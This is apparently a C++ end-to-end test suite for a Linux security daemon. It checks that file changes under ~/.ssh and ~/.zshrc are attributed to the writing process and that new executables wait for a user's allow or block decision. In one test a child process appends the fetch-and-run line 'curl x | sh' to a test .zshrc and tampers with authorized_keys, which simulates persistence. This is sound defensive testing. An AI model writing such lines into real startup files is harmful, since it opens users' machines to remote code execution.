// The daemon as a process of its own on the real fanotify back end, driven with the built
// `quorin` client as a user would: records of real changes reach `quorin watch`, and real execs
// wait for `quorin protect decide`. Root only; every mark is on a private tmpfs, and a watchdog
// alarm ends the test process (and with it the stand-in and every hold) if a test hangs.

#include "EndToEnd/ScopedDaemon.hpp"

#include "Linux/ExecInChild.hpp"
#include "QuorinCore/Domain/AttributionRecord.hpp"
#include "QuorinCore/Protection/ExecutionOutcome.hpp"
#include "QuorinCore/Protection/ExecutionProtectionState.hpp"
#include "QuorinCore/Support/JSON.hpp"
#include "TestSupport/ChildProcess.hpp"
#include "TestSupport/TemporaryDirectory.hpp"

#include <gtest/gtest.h>

#include <fcntl.h>
#include <sys/prctl.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <filesystem>
#include <fstream>
#include <future>
#include <iostream>
#include <set>
#include <thread>

namespace quorin::daemon {
namespace {

namespace fs = std::filesystem;
using namespace std::chrono_literals;
using quorin::testing::ChildProcessResult;
using quorin::testing::runChildProcess;
using quorin::testing::RunningChildProcess;

class ClientAndDaemonTest : public ::testing::Test {
  protected:
    void SetUp() override {
        if (::geteuid() != 0) {
            GTEST_SKIP() << "needs root to mount a private file system and to use fanotify";
        }
        ::alarm(120);
        if (!daemon.mounted()) {
            GTEST_SKIP() << "cannot mount a tmpfs here";
        }
        daemon.start();
    }

    void TearDown() override {
        ::alarm(0);
        if (HasFailure()) {
            std::ifstream log(daemon.log);
            std::cerr << "The daemon's log:\n" << log.rdbuf();
        }
    }

    ChildProcessResult quorin(std::vector<std::string> arguments) {
        arguments.insert(arguments.begin() + (arguments.at(0) == "protect" ? 2 : 1),
                         {"--socket", daemon.socket().string()});
        return runChildProcess(QUORIN_CLI_PATH, arguments);
    }

    ExecutionProtectionState state() {
        const ChildProcessResult result = quorin({"protect", "state", "--json"});
        EXPECT_EQ(result.exitStatus, 0) << result.err;
        return decodeJSONText<ExecutionProtectionState>(result.out);
    }

    // Waits until `quorin protect state` shows a held execution, and gives it.
    std::optional<ExecutionRequest> heldExecution() {
        for (int attempt = 0; attempt < 200; ++attempt) {
            const ExecutionProtectionState current = state();
            if (!current.pending.empty()) {
                return current.pending.front();
            }
            std::this_thread::sleep_for(25ms);
        }
        return std::nullopt;
    }

    quorin::testing::TemporaryDirectory directory;
    testing::ScopedDaemon daemon{directory.path()};
    const fs::path& home = daemon.home;
};

// One pipe end each way between the test and a process it spawned.
struct Signal {
    int ends[2] = {-1, -1};
    Signal() { EXPECT_EQ(::pipe2(ends, O_CLOEXEC), 0); }
    ~Signal() {
        ::close(ends[0]);
        ::close(ends[1]);
    }
    void raise() const { (void)!::write(ends[1], "x", 1); }
    void await() const {
        char byte = 0;
        (void)!::read(ends[0], &byte, 1);
    }
};

TEST_F(ClientAndDaemonTest, WatchReceivesEachChangeWithTheProcessThatMadeItAndItsAncestry) {
    const fs::path zshrc = home / ".zshrc";
    const fs::path ssh = home / ".ssh";
    std::ofstream(zshrc) << "export A=1\n";
    fs::create_directory(ssh);
    RunningChildProcess watch(QUORIN_CLI_PATH, {"watch", "--socket", daemon.socket().string(),
                                                zshrc.string(), ssh.string()});

    // The client subscribes after it starts; a probe change it reports shows it is listening.
    const fs::path probe = ssh / "probe";
    bool listening = false;
    for (int attempt = 0; attempt < 50 && !listening; ++attempt) {
        std::ofstream(probe) << attempt;
        while (const auto line = watch.readLine(100ms)) {
            listening = listening || decodeJSONText<AttributionRecord>(*line).path == probe;
        }
    }
    ASSERT_TRUE(listening) << "quorin watch reported nothing";
    fs::remove(probe);
    while (watch.readLine(300ms)) {
    }

    // The changes come from a grandchild of the test, which stays alive until the records are in
    // so that its process can be read.
    const fs::path created = ssh / "id_new";
    const fs::path renamed = ssh / "authorized_keys";
    const fs::path elsewhere = home / "notes.txt";
    const Signal done;
    const Signal release;
    const Signal reported;
    const pid_t parent = ::fork();
    if (parent == 0) {
        // Each process of the chain dies with the one above it, so a failing test leaves none
        // behind (holding the test's output open).
        ::prctl(PR_SET_PDEATHSIG, SIGKILL);
        const pid_t writer = ::fork();
        if (writer == 0) {
            ::prctl(PR_SET_PDEATHSIG, SIGKILL);
            const int outside = ::open(elsewhere.c_str(), O_WRONLY | O_CREAT, 0644);
            (void)!::write(outside, "no\n", 3);
            ::close(outside);
            const int shell = ::open(zshrc.c_str(), O_WRONLY | O_APPEND);
            (void)!::write(shell, "curl x | sh\n", 12);
            ::close(shell);
            ::close(::open(created.c_str(), O_WRONLY | O_CREAT, 0600));
            (void)!::rename(created.c_str(), renamed.c_str());
            (void)!::unlink(renamed.c_str());
            done.raise();
            release.await();
            ::_exit(0);
        }
        const pid_t grandchild = writer;
        (void)!::write(reported.ends[1], &grandchild, sizeof grandchild);
        ::waitpid(writer, nullptr, 0);
        ::_exit(0);
    }
    pid_t writer = 0;
    (void)!::read(reported.ends[0], &writer, sizeof writer);
    done.await();

    const std::string executable = fs::canonical("/proc/self/exe").string();
    std::set<std::pair<EventOperation, std::string>> seen;
    const std::set<std::pair<EventOperation, std::string>> expected{
        {EventOperation::fileModified, zshrc.string()},
        {EventOperation::fileCreated, created.string()},
        {EventOperation::fileRenamed, created.string()},
        {EventOperation::fileDeleted, renamed.string()}};
    while (!std::includes(seen.begin(), seen.end(), expected.begin(), expected.end())) {
        const std::optional<std::string> line = watch.readLine(10s);
        ASSERT_TRUE(line.has_value()) << "missing records; seen " << seen.size();
        const auto record = decodeJSONText<AttributionRecord>(*line);
        SCOPED_TRACE(*line);
        ASSERT_TRUE(record.operation.has_value());
        seen.emplace(*record.operation, record.path);
        EXPECT_NE(record.path, elsewhere.string());
        EXPECT_EQ(record.writer.pid, writer);
        EXPECT_EQ(record.writer.executablePath, executable);
        ASSERT_GE(record.ancestry.size(), 2u);
        EXPECT_EQ(record.ancestry[0].pid, parent);
        EXPECT_EQ(record.ancestry[1].pid, ::getpid());
    }
    release.raise();
    ::waitpid(parent, nullptr, 0);
    // Nothing about the file outside the watched paths follows either.
    while (const auto line = watch.readLine(500ms)) {
        EXPECT_NE(decodeJSONText<AttributionRecord>(*line).path, elsewhere.string());
    }
}

TEST_F(ClientAndDaemonTest, ExecsOfNewExecutablesWaitForTheUsersDecisionInTheClient) {
    const fs::path bin = home / "bin";
    fs::create_directory(bin);
    const fs::path known = bin / "known";
    fs::copy_file("/bin/true", known);
    const ChildProcessResult enabled = quorin({"protect", "enable", bin.string()});
    ASSERT_EQ(enabled.exitStatus, 0) << enabled.err;

    // An unchanged baseline executable runs without asking.
    EXPECT_EQ(testing::execInChild(known), 0);

    const fs::path fresh = bin / "fresh";
    fs::copy_file("/bin/true", fresh);
    struct Case {
        std::optional<std::string> decision;  // none: the person does not answer
        int status;
    };
    const Case cases[] = {
        {"allowOnce", 0}, {"block", EPERM}, {std::nullopt, EPERM}, {"alwaysTrust", 0}};
    for (const Case& test : cases) {
        SCOPED_TRACE(test.decision.value_or("no answer"));
        const auto started = std::chrono::steady_clock::now();
        std::future<int> execution = testing::launchExecInChild(fresh);
        const std::optional<ExecutionRequest> request = heldExecution();
        ASSERT_TRUE(request.has_value());
        EXPECT_EQ(request->path, fresh.string());
        EXPECT_EQ(execution.wait_for(0s), std::future_status::timeout);  // still held
        if (test.decision) {
            const ChildProcessResult decided =
                quorin({"protect", "decide", request->id.uuidString(), *test.decision});
            EXPECT_EQ(decided.exitStatus, 0) << decided.err;
        }
        ASSERT_EQ(execution.wait_for(30s), std::future_status::ready);
        EXPECT_EQ(execution.get(), test.status);
        if (!test.decision) {
            // Denied when the 15 s the person has run out, not before.
            EXPECT_GE(std::chrono::steady_clock::now() - started, 14s);
        }
    }
    // Trusted now: the same content runs without asking.
    EXPECT_EQ(testing::execInChild(fresh), 0);

    const ChildProcessResult history = quorin({"protect", "history", "--json"});
    ASSERT_EQ(history.exitStatus, 0) << history.err;
    std::vector<std::string> reasons;
    for (const ExecutionOutcome& outcome :
         decodeJSONText<std::vector<ExecutionOutcome>>(history.out)) {
        EXPECT_EQ(outcome.path, fresh.string());
        reasons.push_back(outcome.reason);
    }
    EXPECT_EQ(reasons,
              (std::vector<std::string>{"Allowed once", "Blocked by user", "Blocked after timeout",
                                        "Allowed; saving trust rule", "Allowed by trust rule"}));
}

TEST_F(ClientAndDaemonTest, AnExecHeldWhenTheDaemonIsKilledRuns) {
    const fs::path bin = home / "bin";
    fs::create_directory(bin);
    const ChildProcessResult enabled = quorin({"protect", "enable", bin.string()});
    ASSERT_EQ(enabled.exitStatus, 0) << enabled.err;
    const fs::path fresh = bin / "fresh";
    fs::copy_file("/bin/true", fresh);

    std::future<int> execution = testing::launchExecInChild(fresh);
    ASSERT_TRUE(heldExecution().has_value());
    daemon.kill();
    ASSERT_EQ(execution.wait_for(10s), std::future_status::ready) << "the exec stayed stuck";
    EXPECT_EQ(execution.get(), 0);
    // Nothing is held any more.
    EXPECT_EQ(testing::execInChild(fresh), 0);
}

}  // namespace
}  // namespace quorin::daemon
